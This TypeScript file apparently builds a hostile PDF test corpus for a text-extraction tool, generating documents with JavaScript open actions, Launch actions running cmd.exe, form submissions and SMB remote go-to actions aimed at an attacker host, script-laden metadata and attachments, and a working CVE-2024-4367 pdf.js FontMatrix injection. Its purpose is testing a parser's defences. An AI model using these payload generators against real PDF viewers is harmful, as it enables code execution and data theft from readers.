// PDFs written as PDF syntax, object by object, so that every action sits exactly where a viewer would act
// on it: JavaScript on open, on page open and in the name tree, URI, Launch, SubmitForm and GoToR actions,
// forms with scripts and XFA, attachments, and CVE-2024-4367: a font dictionary whose /FontMatrix holds a
// string that closed pdf.js's generated glyph-drawing function and ran the rest as JavaScript (pdf.js before
// 4.2.67 with eval enabled). The matrix is used on a standard font, and on a Type 1 font program embedded in
// the file (type1-font.ts), whose glyphs are what pdf.js compiled: drawn by pdf.js 4.1.392 with glyphs as
// paths, that document runs its payload (checked by hand when it was written); Dossier's pdf.js has no eval
// path left, and Dossier only extracts text.
import { BENIGN_SENTENCE, CLOSING, INTRO, caseTitle, type HostileCategory, type Payloads } from './payloads';
import { type1FontProgram } from './type1-font';

export interface PdfCase {
  category: HostileCategory;
  description: string;
  /** Extra entries of the catalog, the page and the Info dictionary. */
  catalog?: string;
  page?: string;
  info?: string;
  /** Font resources besides /F1 (Helvetica), as name → object number. */
  fonts?: Record<string, number>;
  /** The font the sentence is drawn in (default /F1). */
  sentenceFont?: string;
  /** More content after the closing paragraph, in PDF content syntax. */
  content?: string;
  /** Extra objects, numbered from 6 upwards in order. */
  objects?: (string | Uint8Array)[];
  payloadAsText?: boolean;
}

/** A PDF string literal. */
export function pdfString(text: string): string {
  return `(${text.replace(/[\\()]/g, (c) => `\\${c}`)})`;
}

/** Greedy line wrapping for 11-point Helvetica on a letter page with one-inch margins. */
function wrap(text: string, width = 84): string[] {
  const lines: string[] = [];
  let line = '';
  for (const word of text.split(' ')) {
    if (line && line.length + 1 + word.length > width) {
      lines.push(line);
      line = word;
    } else {
      line = line ? `${line} ${word}` : word;
    }
  }
  if (line) lines.push(line);
  return lines;
}

function pageContent(id: string, made: PdfCase): string {
  const out: string[] = [];
  let y = 720;
  const text = (font: string, size: number, line: string) => {
    out.push(`BT ${font} ${size} Tf 72 ${y} Td ${pdfString(line)} Tj ET`);
  };
  text('/F1', 16, caseTitle(id, made.description));
  y -= 36;
  for (const line of wrap(INTRO)) {
    text('/F1', 11, line);
    y -= 14;
  }
  y -= 14;
  text(made.sentenceFont ?? '/F1', 11, BENIGN_SENTENCE);
  y -= 28;
  for (const line of wrap(CLOSING)) {
    text('/F1', 11, line);
    y -= 14;
  }
  return out.join('\n') + (made.content ? `\n${made.content}` : '');
}

function stream(dictionary: string, data: string | Uint8Array): Uint8Array {
  const bytes = typeof data === 'string' ? Buffer.from(data, 'latin1') : data;
  return Buffer.concat([
    Buffer.from(`<< ${dictionary} /Length ${bytes.length} >>\nstream\n`, 'latin1'),
    bytes,
    Buffer.from('\nendstream', 'latin1'),
  ]);
}

/** Objects 1–5 are the catalog, pages, page, Helvetica and the page's content; the case adds from 6. */
export function pdfDocument(id: string, made: PdfCase): Uint8Array {
  const fonts = Object.entries({ F1: 4, ...made.fonts })
    .map(([name, number]) => `/${name} ${number} 0 R`)
    .join(' ');
  const objects: (string | Uint8Array)[] = [
    `<< /Type /Catalog /Pages 2 0 R ${made.catalog ?? ''} >>`,
    '<< /Type /Pages /Kids [3 0 R] /Count 1 >>',
    `<< /Type /Page /Parent 2 0 R /MediaBox [0 0 612 792] /Resources << /Font << ${fonts} >> >> /Contents 5 0 R ${made.page ?? ''} >>`,
    '<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding >>',
    stream('', pageContent(id, made)),
    ...(made.objects ?? []),
  ];
  const infoNumber = objects.length + 1;
  objects.push(
    `<< /Title ${pdfString(caseTitle(id, made.description))} /Producer (Dossier hostile corpus) ${made.info ?? ''} >>`,
  );

  const chunks: Buffer[] = [Buffer.from('%PDF-1.7\n%\xe2\xe3\xcf\xd3\n', 'latin1')];
  let length = chunks[0]!.length;
  const offsets: number[] = [];
  objects.forEach((body, i) => {
    offsets.push(length);
    const chunk = Buffer.concat([
      Buffer.from(`${i + 1} 0 obj\n`, 'latin1'),
      typeof body === 'string' ? Buffer.from(body, 'latin1') : Buffer.from(body),
      Buffer.from('\nendobj\n', 'latin1'),
    ]);
    chunks.push(chunk);
    length += chunk.length;
  });
  const xref = [
    'xref',
    `0 ${objects.length + 1}`,
    '0000000000 65535 f ',
    ...offsets.map((offset) => `${String(offset).padStart(10, '0')} 00000 n `),
    'trailer',
    `<< /Size ${objects.length + 1} /Root 1 0 R /Info ${infoNumber} 0 R >>`,
    'startxref',
    String(length),
    '%%EOF',
    '',
  ].join('\n');
  chunks.push(Buffer.from(xref, 'latin1'));
  return new Uint8Array(Buffer.concat(chunks));
}

/** JavaScript as a PDF viewer's scripting would run it, then the Node-side payload. */
const viewerJs = (p: Payloads, vector: string) =>
  `app.alert(${JSON.stringify(`PWNED:${p.id}:${vector}`)});this.submitForm(${JSON.stringify(p.url(`${vector}-submit`))});${p.js(vector)}`;

const action = (p: Payloads, vector: string) => `<< /S /JavaScript /JS ${pdfString(viewerJs(p, vector))} >>`;

/** The CVE-2024-4367 string: closes `c.transform(` in the generated glyph function, then runs the payload. */
export const fontMatrixPayload = (p: Payloads, vector: string) =>
  `/FontMatrix [1 2 3 4 5 ${pdfString(`0); ${p.js(vector)}; (0`)}]`;

export const PDF_CASES: ((p: Payloads) => PdfCase)[] = [
  (p) => ({
    category: 'pdf-action',
    description: 'PDF JavaScript on open',
    catalog: `/OpenAction ${action(p, 'pdf-open')}`,
  }),
  (p) => ({
    category: 'pdf-action',
    description: 'PDF JavaScript in the name tree',
    catalog: '/Names << /JavaScript << /Names [(init) 6 0 R] >> >>',
    objects: ['<< /S /JavaScript /JS 7 0 R >>', stream('', viewerJs(p, 'pdf-names'))],
  }),
  (p) => ({
    category: 'pdf-action',
    description: 'PDF page actions on open and close',
    page: `/AA << /O ${action(p, 'pdf-page-open')} /C ${action(p, 'pdf-page-close')} >>`,
  }),
  (p) => ({
    category: 'pdf-action',
    description: 'PDF link annotations to the attacker, javascript and data',
    page: '/Annots [6 0 R 7 0 R 8 0 R]',
    objects: [
      `<< /Type /Annot /Subtype /Link /Rect [72 420 300 440] /A << /S /URI /URI ${pdfString(p.url('pdf-uri'))} >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [72 440 300 460] /A << /S /URI /URI ${pdfString(p.jsUrl('pdf-uri-js'))} >> >>`,
      `<< /Type /Annot /Subtype /Link /Rect [72 460 300 480] /A << /S /URI /URI ${pdfString(p.dataHtml('pdf-uri-data'))} >> >>`,
    ],
  }),
  (p) => ({
    category: 'pdf-action',
    description: 'PDF launch action',
    catalog:
      '/OpenAction << /S /Launch /F (calc.exe) /NewWindow true /Win << /F (cmd.exe) /P (/c calc.exe) /O (open) >> ' +
      `/Unix (xcalc) /Next ${action(p, 'pdf-launch-next')} >>`,
  }),
  (p) => ({
    category: 'pdf-action',
    description: 'PDF form with field scripts and XFA',
    catalog: '/AcroForm << /Fields [6 0 R] /XFA 7 0 R /NeedAppearances true >>',
    page: '/Annots [6 0 R]',
    objects: [
      `<< /Type /Annot /Subtype /Widget /FT /Tx /T (name) /Rect [72 300 300 320] /V (x) /AA << /K ${action(p, 'pdf-keystroke')} /F ${action(p, 'pdf-format')} /C ${action(p, 'pdf-calculate')} /Fo ${action(p, 'pdf-focus')} >> >>`,
      stream(
        '',
        `<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template><subform><event activity="initialize"><script contentType="application/x-javascript">${viewerJs(p, 'pdf-xfa')}</script></event><field name="f"><ui><textEdit/></ui></field></subform></template></xdp:xdp>`,
      ),
    ],
  }),
  (p) => ({
    category: 'pdf-action',
    description: 'PDF submit form and import data',
    catalog: `/OpenAction << /S /SubmitForm /F << /FS /URL /F ${pdfString(p.url('pdf-submit'))} >> /Flags 4 /Next << /S /ImportData /F ${pdfString(p.url('pdf-import'))} >> >>`,
  }),
  (p) => ({
    category: 'pdf-action',
    description: 'PDF remote go-to and embedded go-to',
    catalog: `/OpenAction << /S /GoToR /F << /FS /URL /F ${pdfString(`smb://${p.host}/share/x.pdf`)} >> /D [0 /Fit] /NewWindow true /Next << /S /GoToE /T << /R /C /N (evil.pdf) >> >> >> /URI << /Base ${pdfString(p.url('pdf-uri-base'))} >>`,
  }),
  (p) => ({
    category: 'pdf-action',
    description: 'PDF attachment with an HTML page',
    catalog: '/Names << /EmbeddedFiles << /Names [(evil.html) 6 0 R] >> >>',
    page: '/Annots [8 0 R]',
    objects: [
      '<< /Type /Filespec /F (evil.html) /UF (evil.html) /EF << /F 7 0 R >> >>',
      stream(
        '/Type /EmbeddedFile /Subtype /text#2Fhtml',
        `<html><script>${p.js('pdf-attachment')}</script></html>`,
      ),
      '<< /Type /Annot /Subtype /FileAttachment /Rect [72 200 90 220] /FS 6 0 R /Contents (Open me) >>',
    ],
  }),
  (p) => ({
    category: 'pdf-action',
    description: 'PDF metadata carrying markup',
    info: `/Author ${pdfString(`<script>${p.js('pdf-author')}</script>`)} /Subject ${pdfString(`<img src=x onerror=${p.js('pdf-subject')}>`)} /Keywords ${pdfString(p.jsUrl('pdf-keywords'))}`,
    catalog: `/Metadata 6 0 R /Lang ${pdfString(`en"><script>${p.js('pdf-lang')}</script>`)}`,
    objects: [
      stream(
        '/Type /Metadata /Subtype /XML',
        `<?xpacket begin="" id="W5M0MpCehiHzreSzNTczkc9d"?><x:xmpmeta xmlns:x="adobe:ns:meta/"><rdf:RDF xmlns:rdf="http://www.w3.org/1999/02/22-rdf-syntax-ns#"><rdf:Description rdf:about="" xmlns:dc="http://purl.org/dc/elements/1.1/"><dc:title><rdf:Alt><rdf:li xml:lang="x-default">Harbour &lt;img src=x onerror=${p.js('pdf-xmp')}&gt;</rdf:li></rdf:Alt></dc:title></rdf:Description></rdf:RDF></x:xmpmeta><?xpacket end="w"?>`,
      ),
    ],
  }),
  (p) => ({
    category: 'pdf-action',
    description: 'PDF text that looks like markup',
    content: `BT /F1 11 Tf 72 300 Td ${pdfString(`<script>${p.js('pdf-text')}</script>`)} Tj ET`,
    payloadAsText: true,
  }),
  (p) => ({
    category: 'font-matrix',
    description: 'PDF font matrix injection on a second font',
    fonts: { F2: 6 },
    content: 'BT /F2 11 Tf 72 300 Td (Annex figures follow.) Tj ET',
    objects: [
      `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica-Bold ${fontMatrixPayload(p, 'fontmatrix-second')} >>`,
    ],
  }),
  (p) => ({
    category: 'font-matrix',
    description: 'PDF font matrix injection on the sentence font',
    fonts: { F2: 6 },
    sentenceFont: '/F2',
    objects: [
      `<< /Type /Font /Subtype /Type1 /BaseFont /Helvetica /Encoding /WinAnsiEncoding ${fontMatrixPayload(p, 'fontmatrix-sentence')} >>`,
    ],
  }),
  (p) => ({
    category: 'font-matrix',
    description: 'PDF font matrix injection in an embedded Type 1 font',
    fonts: { F2: 6 },
    content: 'BT /F2 14 Tf 72 300 Td (HARBOUR) Tj ET',
    objects: [
      `<< /Type /Font /Subtype /Type1 /BaseFont /HostileType1 /FirstChar 65 /LastChar 90 /Widths [${Array(26).fill(600).join(' ')}] /FontDescriptor 7 0 R ${fontMatrixPayload(p, 'fontmatrix-embedded')} >>`,
      '<< /Type /FontDescriptor /FontName /HostileType1 /Flags 32 /FontBBox [0 0 600 700] /ItalicAngle 0 /Ascent 700 /Descent 0 /CapHeight 700 /StemV 80 /FontFile 8 0 R >>',
      (() => {
        const font = type1FontProgram(p.js('fontmatrix-program'));
        return stream(`/Length1 ${font.length1} /Length2 ${font.length2} /Length3 0`, font.bytes);
      })(),
    ],
  }),
  (p) => ({
    category: 'font-matrix',
    description: 'PDF Type 3 font with a hostile matrix',
    fonts: { F2: 6 },
    content: 'BT /F2 11 Tf 72 300 Td (ab) Tj ET',
    objects: [
      `<< /Type /Font /Subtype /Type3 /FontBBox [0 0 1000 1000] ${fontMatrixPayload(p, 'fontmatrix-type3')} /CharProcs << /a 7 0 R /b 7 0 R >> /Encoding << /Type /Encoding /Differences [97 /a /b] >> /FirstChar 97 /LastChar 98 /Widths [1000 1000] /Resources << >> >>`,
      stream('', '1000 0 0 0 1000 1000 d1 0 0 1000 1000 re f'),
    ],
  }),
];
